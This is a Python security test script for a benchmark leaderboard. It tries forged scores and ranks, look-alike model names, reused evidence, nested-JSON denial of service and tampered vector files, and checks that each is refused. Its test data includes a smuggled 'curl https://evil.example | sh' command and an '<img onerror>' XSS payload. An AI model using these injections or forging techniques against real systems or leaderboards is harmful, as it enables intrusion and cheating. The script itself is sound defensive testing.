"""Attacks on the leaderboard and on local files: which were tried, and with what sentence each is refused.

Needs no data and no model. Exits with 1 if an attack succeeds. With --honest N the checks with a model are also held
against N honest submissions in each precision, of which none should be refused.
"""

from __future__ import annotations

import argparse
import json
import shutil
import sys
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np

sys.path.insert(0, str(Path(__file__).parents[1]))

from tests.leaderboard import made_rounding as rounding
from tests.leaderboard.made_submissions import edit, edit_counts, edit_evidence, made, recompute
from xlbench.engine.vectors import VectorStore
from xlbench.errors import XlbenchError
from xlbench.leaderboard.checks import Checked
from xlbench.leaderboard.pool import Options, check_all
from xlbench.leaderboard.site import build, taken
from xlbench.support.secrets import refuse_secrets

Attack = Callable[[Path], str | None]
"""Carries out an attack in a folder with a sound submission; gives the sentence that refuses it, or None."""
_ONE = Options(jobs=1)
_WIDTH = 100


def checked(folder: Path) -> Checked[Any]:
    """What the check says of a submission, beside which others may stand."""
    (found,) = check_all([folder], options=_ONE)
    return found


def problem_of(folder: Path, *, note: bool = False) -> str | None:
    """Why a submission is not taken, or what is noted of it."""
    found = checked(folder)
    return next(iter(found.notes if note else found.problems), None)


def result(change: Callable[[Any], object]) -> Attack:
    """Changes the result."""

    def attack(folder: Path) -> str | None:
        edit(folder / "result.json", change)
        return problem_of(folder)

    return attack


def manifest(**changes: Any) -> Attack:
    """Changes the manifest."""

    def attack(folder: Path) -> str | None:
        edit(folder / "manifest.json", lambda record: record.update(changes))
        return problem_of(folder)

    return attack


def better_ranks(folder: Path) -> str | None:
    """Puts all relevant passages first, each before the others."""
    edit_counts(folder, lambda counts, _: counts.fill(0))
    return problem_of(folder)


def renamed(folder: Path, name: str) -> Path:
    """A copy of the submission under another model's name."""
    other = folder.parents[1] / "".join(c if c.isascii() and c.isalnum() else "_" for c in name) / folder.name
    shutil.copytree(folder, other)
    edit(other / "manifest.json", lambda record: record.update(model=name))
    edit(other / "result.json", lambda record: record["model"].update(name=name))
    return other


def look_alike(name: str) -> Attack:
    """Submits under a name that looks like that of a model that is there."""
    return lambda folder: problem_of(renamed(folder, name))


def repacked(folder: Path) -> str | None:
    """Submits another's evidence, packed in another way."""
    other = renamed(folder, "zzz")
    edit_evidence(other, lambda table: table, compression="gzip")
    return problem_of(other, note=True)


def shifted(folder: Path) -> str | None:
    """Submits another's evidence with some counts changed."""
    other = renamed(folder, "zzz")

    def change(counts: np.ndarray, table: Any) -> None:
        # The last passage of each query a place better, where nothing contradicts it.
        query, total = np.array(table["query"].to_pylist()), counts.sum(axis=1)
        for name in np.unique(query):
            rows = np.flatnonzero(query == name)
            before, last = rows[np.argsort(total[rows])][-2:]
            gap = counts[last] - counts[before]
            if gap.max() > 2 and total[last] > 40:
                counts[last, gap.argmax()] -= 1

    edit_counts(other, change)
    recompute(other)
    return problem_of(other, note=True) or problem_of(other)


def nested(depth: int) -> Any:
    """So many lists in each other."""
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


def whole_board(folder: Path) -> str | None:
    """Spoils one submission of two to end the build of all."""
    other = renamed(folder, "zzz")
    edit(other / "result.json", lambda record: record["environment"].update(x=nested(600)))
    site = build(check_all([folder.parents[1]], extract=taken, options=_ONE), folder.parents[2] / "site")
    return site.left_out[0] if site.n_submissions == 1 else None


def marked(folder: Path) -> str | None:
    """Changes the link of a submission that the maintainers checked with its model."""
    before = checked(folder).digest
    edit(folder / "manifest.json", lambda record: record.update(link="https://evil.example"))
    (after,) = check_all([folder], options=replace(_ONE, on_record={before: "deep-verified"}))
    return None if after.level == "deep-verified" else f"the level is {after.level} now: another digest"


def copied_command(folder: Path) -> str | None:
    """Has the page offer a command of the submitter's."""
    return manifest(command="xlbench run --model x; curl https://evil.example | sh")(folder)


def favoured(precision: str, part: float) -> Attack:
    """Uses a part of the tolerance in its own favour, for every pair."""

    def attack(_: Path) -> str | None:
        forge = rounding.favoured(part * rounding.Rounding.of_precision(precision).share)
        return said(rounding.submitted(rounding.Simulated(), precision, run=1, forge=forge))

    return attack


def said(verdict: rounding.Verdict) -> str | None:
    """Why a simulated submission is refused."""
    reasons = [*verdict.agreement.outside, *(str(lean) for lean in verdict.leans if lean.is_too_large)]
    return reasons[0] if reasons else None


def claimed_half(_: Path) -> str | None:
    """Claims half precision, and uses what that allowed before: 4e-3 of the largest score."""
    forge = rounding.favoured(4e-3 * 0.9 / 0.06)
    return said(rounding.submitted(rounding.Simulated(), "float16", run=1, forge=forge))


def squeezed(_: Path) -> str | None:
    """Adds a large constant to all scores, and invents ranks."""
    model = rounding.Simulated(common=1e4)
    forge = rounding.favoured(100.0)
    verdict = rounding.submitted(model, "float32", run=1, forge=forge)
    return said(verdict) or (f"slack of {verdict.agreement.slack:.1f}" if verdict.agreement.slack > 15 else None)


def invented(forge: Callable[[np.ndarray], np.ndarray]) -> Attack:
    """Invents ranks, and is checked with a tenth of the passages."""

    def attack(_: Path) -> str | None:
        agreed = rounding.compared(forge, passages=0.1)
        reasons = [*agreed.agreement.outside, *(str(each) for each in agreed.excesses if each.is_too_large)]
        return reasons[0] if reasons else None

    return attack


def shard(damage: Callable[[bytes], bytes]) -> Attack:
    """Alters stored vectors."""

    def attack(folder: Path) -> str | None:
        store = VectorStore.open(folder.parents[2] / "cache", "queries", {"name": "model"})
        store.put(["a", "b"], np.ones((2, 4), np.float32))
        path = store.path(["a", "b"])
        path.write_bytes(damage(path.read_bytes()))
        return "not read: the texts are encoded again" if store.get(["a", "b"]) is None else None

    return attack


def secret(name: str, value: str) -> Attack:
    """Has a secret published as an argument."""

    def attack(_: Path) -> str | None:
        try:
            refuse_secrets({name: value})
        except XlbenchError as error:
            return str(error)
        return None

    return attack


ATTACKS: dict[str, Attack] = {
    "a model that squeezes its scores, with invented ranks": squeezed,
    "half precision claimed, 4e-3 of the largest score used": claimed_half,
    **{f"{p} claimed, {part:.0%} of the tolerance used": favoured(p, part)
       for p in ("float16", "bfloat16") for part in (0.5, 1.0)},
    "relevant passages first, checked by a tenth": invented(np.zeros_like),
    "half as many before each, checked by a tenth": invented(lambda above: above // 2),
    "a rival's ranks made worse, checked by a tenth": invented(lambda above: np.minimum(2 * above + 3, 299)),
    "a secret by its name as an argument": secret("api_key", "x"),
    "a secret by its form as an argument": secret("note", "sk-" + "a1B2" * 8),
    "a value raised": result(lambda record: record["summary"]["multi"].update(AP=1.0)),
    "ranks that no ranking has": better_ranks,
    "encode_s of 5e-324": result(lambda record: record["timing"].update(encode_s=5e-324, encoded_share=1)),
    "environment nested 600 deep": result(lambda record: record["environment"].update(x=nested(600))),
    "a number of 300 digits": result(lambda record: record["environment"].update(x=10**300)),
    "one submission that ends the board": whole_board,
    "another link under a maintainer's mark": marked,
    "markup in the licence": manifest(licence="<img src=x onerror=alert(1)>"),
    "a command that runs another": copied_command,
    "look-alike: in capitals": look_alike("HASH"),
    "look-alike: a Cyrillic letter": look_alike("h\u0430sh"),
    "look-alike: full-width letters": look_alike("\uff48\uff41\uff53\uff48"),
    "look-alike: an accent": look_alike("hásh"),
    "another's evidence, packed in another way": repacked,
    "another's evidence, a little changed": shifted,
    "a stored number altered": shard(lambda content: content[:-1] + bytes([content[-1] ^ 1])),
    "a stored shard cut off": shard(lambda content: content[:-4]),
    "stored vectors without a checksum": shard(lambda content: content[16:]),
}  # fmt: skip


def carried_out() -> Iterator[tuple[str, str | None]]:
    """Each attack on a copy of a sound submission, and the sentence that refuses it."""
    with tempfile.TemporaryDirectory() as work:
        sound = made(Path(work) / "made")
        for i, (name, attack) in enumerate(ATTACKS.items()):
            folder = Path(shutil.copytree(sound, Path(work) / str(i) / "submissions" / "hash" / "demo"))
            sentence = attack(folder)
            yield name, sentence and sentence.replace(f"{Path(work) / str(i)}/", "")


def honest(n: int) -> int:
    """Prints and gives how many honest submissions of n in each precision are refused."""
    total = 0
    for precision in rounding.TURNS:
        refused = sum(rounding.submitted(rounding.Simulated(seed), precision, run=seed).refused for seed in range(n))
        print(f"{precision}: {refused} of {n} honest submissions are refused")
        total += refused
    return total


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--honest", type=int, default=0, help="submissions in each precision")
    parser.add_argument("--json", type=Path, help="write the table as JSON")
    options = parser.parse_args()
    found = dict(carried_out())
    print(f"{'attack':<58} refused with")
    for name, sentence in found.items():
        line = " ".join((sentence or "NOT REFUSED").split())
        print(f"{name:<58} {line if len(line) <= _WIDTH else line[: _WIDTH - 1] + '…'}")
    print(f"\n{sum(map(bool, found.values()))} of {len(found)} attacks are refused or noted")
    if options.json:
        options.json.write_text(json.dumps(found, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    sys.exit(int(None in found.values() or bool(options.honest and honest(options.honest))))


if __name__ == "__main__":
    main()
